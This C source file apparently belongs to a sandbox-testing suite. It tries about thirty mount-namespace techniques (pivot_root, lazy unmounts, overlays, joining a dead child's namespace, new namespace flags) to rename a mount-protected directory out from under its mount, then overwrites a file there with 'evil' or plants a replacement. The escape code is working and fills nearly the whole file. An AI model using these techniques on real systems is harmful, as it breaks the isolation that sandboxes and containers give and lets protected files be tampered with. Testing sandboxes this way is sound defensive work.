/*
 * hollow [OPTION…] WAY ROOT NAME FILE: change or read what a mount protects or hides, by a rename
 * that the kernel allows since the mount is not in the mount namespace of whoever renames.
 *
 * ROOT is a writable root and NAME what is protected in it, FILE a file in NAME; ROOT/mnt has to be
 * there. rename(2) asks whether a name is a mountpoint in the caller's own mount namespace
 * (is_local_mountpoint() in the kernel).  So: keep a descriptor of ROOT, come by a namespace that
 * has none of its mounts (which is what the ways differ in) and a mount of ROOT/mnt besides, and
 * rename NAME through the descriptor to below mnt.  There nothing covers it.  In the end it is
 * renamed back.
 *
 * What it prints and returns: attack.h; "done: CONTENT" when FILE was read there, and then it has
 * "evil" in it.
 */
#include "attack.h"

#include <limits.h>
#include <linux/sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/uio.h>

#define TREE_NAMESPACE 0x2        /* OPEN_TREE_NAMESPACE (7.0) */
#define FSMOUNT_NS     0x2        /* FSMOUNT_NAMESPACE (7.1) */
#define EMPTY_MNTNS    0x00100000 /* UNSHARE_EMPTY_MNTNS (7.1) */

/* Descriptors of ROOT, opened before anything, and of a mount of ROOT/mnt. */
static int root, window = -1;
static const char *root_path, *name, *file;

/* A mount of ROOT/mnt on itself, made with mount(2) alone: the old kernels' way. */
static void bind_window(void)
{
	must("chdir", chdir(root_path));
	must("bind", mount("mnt", "mnt", NULL, MS_BIND, NULL));
	window = open_directory("mnt");
}

/* The same without a place in any namespace, which is what a detached tree has. */
static void detached_window(void)
{
	must("chdir", chdir(root_path));
	window = clone_tree(AT_FDCWD, "mnt", 0);
}

/* --- ways to a namespace without these mounts ------------------------------------------------- */

/* A new root below the old one, which is let go of. */
static void way_pivot(void)
{
	bind_window();
	must("fchdir", fchdir(window));
	must("pivot_root", pivot_here());
	must("umount2", umount2(".", MNT_DETACH));
}

/* The new root is a tmpfs. */
static void way_pivot_tmpfs(void)
{
	detached_window();
	must("tmpfs", mount("tmpfs", "mnt", "tmpfs", 0, NULL));
	must("chdir", chdir("mnt"));
	must("pivot_root", pivot_here());
	must("umount2", umount2(".", MNT_DETACH));
}

/* The old root goes elsewhere first, and is let go of by its name there. */
static void way_pivot_put_old(void)
{
	bind_window();
	must("fchdir", fchdir(window));
	if (mkdir("old", 0755) < 0 && errno != EEXIST)
		give_up("mkdir");
	must("pivot_root", syscall(SYS_pivot_root, ".", "old"));
	must("umount2", umount2("/old", MNT_DETACH | 8 /* UMOUNT_NOFOLLOW */));
}

/* Everything at once, from the top. */
static void way_detach_root(void)
{
	bind_window();
	must("chdir", chdir("/"));
	must("umount2", umount2("/", MNT_DETACH));
}

static void way_detach_above_root(void)
{
	bind_window();
	must("umount2", umount2("/..", MNT_DETACH));
}

/* The root of a whole copy, mounted on the root, and the old one below it let go of. */
static void way_detach_copy_on_root(void)
{
	detached_window();
	int copy = clone_tree(AT_FDCWD, "/", AT_RECURSIVE);
	must("move_mount", attach(copy, "/"));
	must("fchdir", fchdir(copy));
	must("chroot", chroot("."));
	must("umount2", umount2(".", MNT_DETACH));
}

static void way_expire_root(void)
{
	bind_window();
	(void)umount2("/", 4 /* MNT_EXPIRE */);
	must("umount2", umount2("/", 4));
}

/* What is protected alone, as everything else stays. */
static void way_umount_name(void)
{
	char path[PATH_MAX];
	bind_window();
	snprintf(path, sizeof(path), "%s/%s", root_path, name);
	must("umount2", umount2(path, 0));
}

static void way_expire_name(void)
{
	char path[PATH_MAX];
	bind_window();
	snprintf(path, sizeof(path), "%s/%s", root_path, name);
	(void)umount2(path, 4);
	must("umount2", umount2(path, 4));
}

static void way_detach_name(void)
{
	char path[PATH_MAX];
	bind_window();
	snprintf(path, sizeof(path), "%s/%s", root_path, name);
	must("umount2", umount2(path, MNT_DETACH));
}

/* The workspace's mount with all on it. */
static void way_detach_workspace(void)
{
	bind_window();
	must("umount2", umount2(root_path, MNT_DETACH));
}

static void way_umount_workspace(void)
{
	detached_window();
	must("umount2", umount2(root_path, 0));
}

/* Another mount in its place, so that no path leads to it. */
static void way_cover_root(void)
{
	detached_window();
	must("tmpfs", mount("tmpfs", "/", "tmpfs", 0, NULL));
	int top = open_directory("/..");
	must("fchdir", fchdir(top));
	must("chroot", chroot("."));
}

static void way_cover_workspace(void)
{
	detached_window();
	must("tmpfs", mount("tmpfs", root_path, "tmpfs", 0, NULL));
}

/* A mount below the root, which then could come off. */
static void way_beneath_root(void)
{
	detached_window();
	int copy = clone_tree(AT_FDCWD, "mnt", 0);
	must("move_mount",
		syscall(SYS_move_mount, copy, "", AT_FDCWD, "/", EMPTY_SOURCE | BENEATH));
	must("umount2", umount2("/", 0));
}

static void way_move_root(void)
{
	detached_window();
	must("mount", mount("/", "mnt", NULL, MS_MOVE, NULL));
}

static void way_move_workspace(void)
{
	detached_window();
	must("mount", mount(root_path, "/tmp", NULL, MS_MOVE, NULL));
}

/* A copy of the workspace without what is mounted in it, and that as the place to rename in. */
static void way_flat_copy(void)
{
	detached_window();
	root = clone_tree(AT_FDCWD, root_path, 0);
}

/* A whole copy in no namespace at all, as the place to rename in. */
static void way_detached_copy(void)
{
	detached_window();
	root = clone_tree(AT_FDCWD, root_path, AT_RECURSIVE);
}

/* One with the mount of what is protected let go of, in it. */
static void way_uncovered_copy(void)
{
	char path[PATH_MAX];
	detached_window();
	int copy = clone_tree(AT_FDCWD, root_path, AT_RECURSIVE);
	must("move_mount", attach(copy, "/tmp"));
	snprintf(path, sizeof(path), "/tmp/%s", name);
	must("umount2", umount2(path, 0));
	root = copy;
}

/* An overlay's layers are mounts of the kernel's own, in no namespace. */
static void overlay(const char *upper, const char *lower)
{
	char options[3 * PATH_MAX];
	(void)mkdir("mnt/work", 0755);
	(void)mkdir("mnt/lower", 0755);
	if (upper)
		snprintf(options, sizeof(options),
			"upperdir=%s,workdir=%s/mnt/work,lowerdir=%s,userxattr", upper, root_path,
			lower);
	else
		snprintf(
			options, sizeof(options), "lowerdir=%s:%s/mnt,userxattr", lower, root_path);
	must("overlay", mount("overlay", "/tmp", "overlay", 0, options));
	root = (int)must("open", open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
}

static void way_overlay_upper(void)
{
	char lower[PATH_MAX];
	detached_window();
	snprintf(lower, sizeof(lower), "%s/mnt/lower", root_path);
	overlay(root_path, lower);
}

static void way_overlay_lower(void)
{
	detached_window();
	overlay(NULL, root_path);
}

/* A namespace of a child that has ended, or ends while it is joined. */
static void way_namespace_of_a_child(void)
{
	int ready[2];
	detached_window();
	must("pipe", pipe(ready));
	pid_t child = (pid_t)must("fork", fork());
	char path[64], byte;
	if (!child) {
		must("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
		close(ready[0]);
		must("write", write(ready[1], "", 1));
		for (;;)
			pause();
	}
	close(ready[1]);
	if (read(ready[0], &byte, 1) != 1)
		exit(1); /* the child has said why */
	snprintf(path, sizeof(path), "/proc/%d/ns/user", child);
	int user = open_to_read(path);
	snprintf(path, sizeof(path), "/proc/%d/ns/mnt", child);
	int mounts = open_to_read(path);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	must("setns", setns(user, CLONE_NEWUSER));
	must("setns", setns(mounts, CLONE_NEWNS));
}

/* A second namespace in a second user namespace, the window from the first. */
static void way_deeper(void)
{
	detached_window();
	must("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
}

/* Unbindable, shared and slave mounts are copied otherwise than private ones. */
static void way_unbindable(void)
{
	detached_window();
	must("mount", mount(NULL, "/", NULL, MS_UNBINDABLE | MS_REC, NULL));
	must("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
}

/* What is unmounted in one is unmounted in those that receive from it. */
static void way_propagated_umount(void)
{
	detached_window();
	must("mount", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
	must("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
	must("umount2", umount2(root_path, 0));
}

static void way_chroot(void)
{
	detached_window();
	must("fchdir", fchdir(window));
	must("chroot", chroot("."));
}

/*
 * The newest kernels make namespaces of less than there was, and ask for no mount: so there is no
 * window, and something else is put in the place of NAME.
 */
static void way_tree_namespace(void)
{
	int space = (int)must(
		"open_tree", syscall(SYS_open_tree, root, "mnt", TREE_NAMESPACE | O_CLOEXEC));
	must("setns", setns(space, CLONE_NEWNS));
}

static void way_fsmount_namespace(void)
{
	int space = (int)must(
		"fsmount", syscall(SYS_fsmount, configured_file_system("tmpfs"), FSMOUNT_NS, 0));
	must("setns", setns(space, CLONE_NEWNS));
}

static void way_empty_namespace(void)
{
	must("unshare", unshare(EMPTY_MNTNS | CLONE_NEWNS));
}

/* The control: there is nothing special about this one. */
static void way_plain(void)
{
	detached_window();
}

static const struct way ways[] = {
	{"plain", way_plain},
	{"pivot", way_pivot},
	{"pivot-tmpfs", way_pivot_tmpfs},
	{"pivot-put-old", way_pivot_put_old},
	{"detach-root", way_detach_root},
	{"detach-above-root", way_detach_above_root},
	{"detach-copy-on-root", way_detach_copy_on_root},
	{"detach-name", way_detach_name},
	{"detach-workspace", way_detach_workspace},
	{"expire-root", way_expire_root},
	{"expire-name", way_expire_name},
	{"umount-name", way_umount_name},
	{"umount-workspace", way_umount_workspace},
	{"cover-root", way_cover_root},
	{"cover-workspace", way_cover_workspace},
	{"beneath-root", way_beneath_root},
	{"move-root", way_move_root},
	{"move-workspace", way_move_workspace},
	{"flat-copy", way_flat_copy},
	{"detached-copy", way_detached_copy},
	{"uncovered-copy", way_uncovered_copy},
	{"overlay-upper", way_overlay_upper},
	{"overlay-lower", way_overlay_lower},
	{"namespace-of-a-child", way_namespace_of_a_child},
	{"deeper", way_deeper},
	{"unbindable", way_unbindable},
	{"propagated-umount", way_propagated_umount},
	{"chroot", way_chroot},
	{"tree-namespace", way_tree_namespace},
	{"fsmount-namespace", way_fsmount_namespace},
	{"empty-namespace", way_empty_namespace},
	{NULL, NULL},
};

/* --- the rename ------------------------------------------------------------------------------- */

/* Through the window, where the file is "moved/FILE". */
static long change_file(void)
{
	char path[PATH_MAX], content[64] = "";

	snprintf(path, sizeof(path), "moved/%s", file);
	int fd = openat(window, path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t length = read(fd, content, sizeof(content) - 1);
	if (length > 0)
		content[strcspn(content, "\n")] = '\0';
	long result = ftruncate(fd, 0) < 0 ? -1 : pwrite(fd, "evil\n", 5, 0);
	close(fd);
	printf("%s: ", content);
	return result;
}

/* A namespace within this one can only be made by who has a group in this one. */
static void map_group(unsigned int gid)
{
	write_to("/proc/self/setgroups", "deny");
	write_map("/proc/self/gid_map", gid);
}

/* Without a window: another one in its place, which is the command's to fill. */
static long replace(void)
{
	char path[PATH_MAX];

	must("mkdir", mkdirat(root, name, 0755));
	snprintf(path, sizeof(path), "%s/%s", name, file);
	int fd = openat(root, path, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
	return fd < 0 ? -1 : write(fd, "evil\n", 5);
}

int main(int argc, char **argv)
{
	list_ways(ways, argc, argv);
	/* Before the namespaces: it belongs to the mounts of the sandbox. */
	if (argc < 5)
		return 126;
	root_path = argv[argc - 3], name = argv[argc - 2], file = argv[argc - 1];
	root = (int)must("root", open(root_path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	unsigned int gid = getgid();
	int taken = take_options(argv);
	if (argc != taken + 5)
		return 126;
	if (!strcmp(argv[1], "--map"))
		map_group(gid);
	go_way(ways, argv[taken + 1]);

	must("rename", renameat(root, name, root, "mnt/moved"));
	if (window < 0) {
		long result = replace();
		puts(result < 0 ? errno_name(errno) : "done");
		return result < 0;
	}
	long result = change_file();
	int error = errno;
	must("rename back", renameat(root, "mnt/moved", root, name));
	errno = error;
	puts(result < 0 ? errno_name(errno) : "done");
	return result < 0;
}
